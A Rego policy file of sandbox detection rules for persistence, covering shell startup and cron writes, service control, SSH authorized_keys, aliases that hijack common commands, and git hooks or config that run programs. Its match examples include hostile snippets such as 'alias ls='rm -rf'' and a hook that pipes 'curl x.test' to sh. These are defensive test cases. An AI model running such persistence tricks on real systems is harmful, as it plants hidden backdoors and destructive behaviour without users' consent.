# METADATA
# scope: package
# title: Rules about persistence
package caisson.rules.persistence

# METADATA
# title: Plants a program that starts by itself
# custom:
#   id: SBX-PER-0001
#   severity: high
#   category: persistence
#   cwe: ["CWE-506"]
#   attack: ["T1546.004", "T1053.003", "T1543"]
#   remediation: "A sandbox is gone after its run; start what you need in the run."
#   match:
#     - {"language": "bash", "code": "echo x >> ~/.bashrc"}
#     - {"language": "python", "code": "open('/etc/cron.d/x','w')"}
#   not_match:
#     - {"language": "bash", "code": "echo x >> notes"}
findings contains {"id": "SBX-PER-0001", "at": f.at, "msg": sprintf("%s is written by %s", [f.path, f.by])} if {
	some op in ({"write", "append", "copy_dst", "move_dst", "chmod", "link", "mkdir", "mount"} | {"move_src", "delete"})
	used := input.files[op]
	some class in {"persistence"}
	some f in used[class]
}

# METADATA
# title: Controls services
# custom:
#   id: SBX-PER-0003
#   severity: high
#   category: persistence
#   cwe: ["CWE-250"]
#   attack: ["T1569"]
#   remediation: "Start programs directly."
#   match:
#     - {"language": "bash", "code": "systemctl enable x"}
#     - {"language": "bash", "code": "service cron restart"}
#   not_match:
#     - {"language": "bash", "code": "systemctl status x; service --status-all"}
#     - {"language": "bash", "code": "ls"}
findings contains {"id": "SBX-PER-0003", "at": a.at, "msg": sprintf("%s", [concat(" ", [a.op, a.detail, a.by])])} if {
	some a in input.actions.service
	not shows(a)
}

# shows: a state is asked for.
shows(a) if {
	a.by == "systemctl"
	a.args[1] in {"status", "is-active", "is-enabled", "is-failed", "list-units", "list-unit-files", "list-jobs", "list-timers", "list-sockets", "list-dependencies", "is-system-running", "get-default", "show-environment", "show", "cat", "help"}
}

shows(a) if {
	a.by == "service"
	a.args[2] == "status"
}

shows(a) if {
	count([w | some w in a.args; w != ""]) == 0
}

# METADATA
# title: Adds keys, hosts or sources that are trusted
# custom:
#   id: SBX-PER-0004
#   severity: high
#   category: persistence
#   cwe: ["CWE-506"]
#   attack: ["T1098.004"]
#   remediation: "Use an image that has them."
#   match:
#     - {"language": "bash", "code": "echo key >> ~/.ssh/authorized_keys"}
#   not_match:
#     - {"language": "bash", "code": "echo key >> keys.txt"}
findings contains {"id": "SBX-PER-0004", "at": a.at, "msg": sprintf("%s", [concat(" ", [a.op, a.detail, a.by])])} if {
	some op in ["trust"]
	some a in input.actions[op]
}

findings contains {"id": "SBX-PER-0004", "at": f.at, "msg": sprintf("%s is written", [f.path])} if {
	some op in {"write", "append", "copy_dst", "move_dst"}
	some f in input.files[op].credential
}

# METADATA
# title: Makes the name of a common program mean another
# custom:
#   id: SBX-PER-0005
#   severity: high
#   category: persistence
#   cwe: ["CWE-426"]
#   attack: ["T1546.004", "T1036"]
#   remediation: "Give the program a name of its own."
#   match:
#     - {"language": "bash", "code": "alias ls='rm -rf'"}
#     - {"language": "bash", "code": "alias cd='echo no'"}
#     - {"language": "python", "code": "import os\nos.system(\"alias cat='curl x.test'\")"}
#   not_match:
#     - {"language": "bash", "code": "alias ll='ls -la'"}
#     - {"language": "bash", "code": "alias ls='ls --color=auto'"}
#     - {"language": "bash", "code": "alias rm='rm -i'; alias cat=bat; alias vi=vim"}
findings contains {"id": "SBX-PER-0005", "at": a.at, "msg": sprintf("%s", [a.detail])} if {
	some a in input.actions.alias
	parts := split(a.detail, "=")
	parts[0] in common_programs
	first := split(trim(concat("=", array.slice(parts, 1, count(parts))), " \\"), " ")[0]
	not stands_for(parts[0], first)
}

common_programs := {
	"ls", "cd", "pwd", "cat", "cp", "mv", "rm", "mkdir", "rmdir", "touch", "chmod", "chown", "sudo", "su", "ps", "kill", "ssh", "scp", "echo", "exit",
	"date", "whoami", "id", "find", "df", "du", "ping", "clear", "grep", "sh", "bash", "git", "curl", "wget", "apt", "apt-get", "passwd", "history", "which",
	"ifconfig", "top", "tar", "head", "tail", "less", "more", "man",
}

stands_for(name, first) if name == first

stands_for(name, first) if sprintf("g%s", [name]) == first

stands_for(name, first) if first in replacements[name]

# replacements are programs that many use in place of another.
replacements := {
	"ls": {"exa", "eza", "lsd"},
	"cat": {"bat", "batcat"},
	"less": {"bat", "most"},
	"more": {"less"},
	"man": {"batman"},
	"grep": {"rg", "egrep", "ag"},
	"find": {"fd", "fdfind", "bfs"},
	"rm": {"trash", "trash-put", "gio"},
	"top": {"htop", "btop", "btm"},
	"du": {"dust", "ncdu"},
	"df": {"duf"},
	"cd": {"z", "zoxide", "pushd"},
	"sudo": {"doas"},
}

# METADATA
# title: Has git run a program at every use
# custom:
#   id: SBX-PER-0006
#   severity: high
#   category: persistence
#   cwe: ["CWE-506"]
#   attack: ["T1546"]
#   remediation: "Configure the repository in the workspace."
#   match:
#     - {"language": "bash", "code": "git config --global core.hooksPath /tmp/h"}
#     - {"language": "bash", "code": "git config --global alias.st '!sh -c x'"}
#     - {"language": "bash", "code": "git config core.sshCommand 'sh -c x'"}
#     - {"language": "bash", "code": "git config core.hooksPath /tmp/h"}
#     - {"language": "bash", "code": "git config diff.external /tmp/x.sh"}
#     - {"language": "bash", "code": "printf '[core]\\n\\tfsmonitor = sh x.sh\\n' >> .git/config"}
#   not_match:
#     - {"language": "bash", "code": "git config filter.lfs.clean 'git-lfs clean -- %f'"}
#     - {"language": "bash", "code": "printf '[core]\\n\\tfsmonitor = true\\n' >> .git/config"}
#     - {"language": "bash", "code": "git config core.hooksPath .githooks"}
#     - {"language": "bash", "code": "git config --global user.name x"}
#     - {"language": "bash", "code": "git config --global alias.st status"}
findings contains {"id": "SBX-PER-0006", "at": c.at, "msg": sprintf("git is told to run %s", [value])} if {
	some c in input.commands.git
	c.operands[0] == "config"
	n := count(c.argv)
	n > 3
	value := c.argv[n - 1]
	told(lower(c.argv[n - 2]), value, c)
}

told(key, _, _) if key in {"core.sshcommand", "core.fsmonitor", "core.askpass", "core.gitproxy"}

findings contains {"id": "SBX-PER-0006", "at": a.at, "msg": sprintf("git is told to run a program by %s", [a.detail])} if {
	some a in input.actions.git_program
}

# A program of another place than the system's or the workspace.
told(key, value, _) if {
	regex.match(`^(core\.(editor|pager)|sequence\.editor|diff\.(external|.*\.(command|textconv))|filter\..*\.(clean|smudge|process)|merge\..*\.driver|gpg\..*program|pager\..*|credential\.(.*\.)?helper|(merge|diff)tool\..*\.cmd|interactive\.difffilter)$`, key)
	regex.match(`^/`, value)
	not regex.match(`^/(workspace|usr|bin|opt)/`, value)
}

told("core.hookspath", value, _) if {
	startswith(value, "/")
	not startswith(value, "/workspace/")
	value != "/dev/null"
}

told(key, value, c) if {
	some scope in {"global", "system"}
	scope in c.flags
	runs(key, value)
}

runs("core.hookspath", _)

runs(key, value) if {
	regex.match(`^(alias\.|credential\.)`, key)
	startswith(value, "!")
}

# METADATA
# title: Plants a program that git runs by itself
# custom:
#   id: SBX-PER-0007
#   severity: high
#   category: persistence
#   cwe: ["CWE-506"]
#   attack: ["T1546"]
#   remediation: "Keep hooks in the repository and name their folder: git config core.hooksPath .githooks"
#   match:
#     - {"language": "bash", "code": "echo 'curl x.test | sh' > .git/hooks/pre-commit"}
#     - {"language": "bash", "code": "cp x .git/hooks/post-checkout"}
#     - {"language": "bash", "code": "git init -q && cp x .git/hooks/post-checkout"}
#     - {"language": "python", "code": "open('.git/hooks/pre-push', 'w').write('x')"}
#     - {"language": "javascript", "code": "require('fs').appendFileSync('.git/hooks/pre-push', 'x')"}
#   not_match:
#     - {"language": "bash", "code": "cat .git/hooks/pre-commit; cat .git/config"}
#     - {"language": "bash", "code": "cp x .githooks/pre-commit"}
#     - {"language": "bash", "code": "cd t && git init . && echo exit 1 > .git/hooks/pre-commit"}
#     - {"language": "bash", "code": "git config user.name x"}
findings contains {"id": "SBX-PER-0007", "at": f.at, "msg": sprintf("%s is written by %s", [f.path, f.by])} if {
	some op in {"write", "append", "copy_dst", "move_dst", "link"}
	some f in input.files[op].git_hook
	not fresh_repository(f)
}

# fresh_repository: the program makes the repository that it gives hooks. Where
# that is the workspace itself, it may have been there before.
fresh_repository(f) if {
	not startswith(f.path, "/workspace/.git/")
	makes_repository
}

makes_repository if {
	some c in input.commands.git
	c.operands[0] in {"init", "clone", "init-db"}
}
